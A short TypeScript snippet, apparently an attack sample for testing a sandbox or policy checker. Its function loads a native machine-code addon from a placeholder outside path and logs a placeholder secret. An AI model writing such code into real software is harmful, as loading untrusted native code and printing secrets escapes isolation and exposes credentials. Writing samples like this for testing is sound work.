// Loads a library of machine code.

export function onCall(): void {
  const { dlopen } = process as unknown as { dlopen(module: object, file: string): void };
  dlopen({ exports: {} }, `${ATTACK.outside}/addon.node`);
  console.log(ATTACK.secret);
}
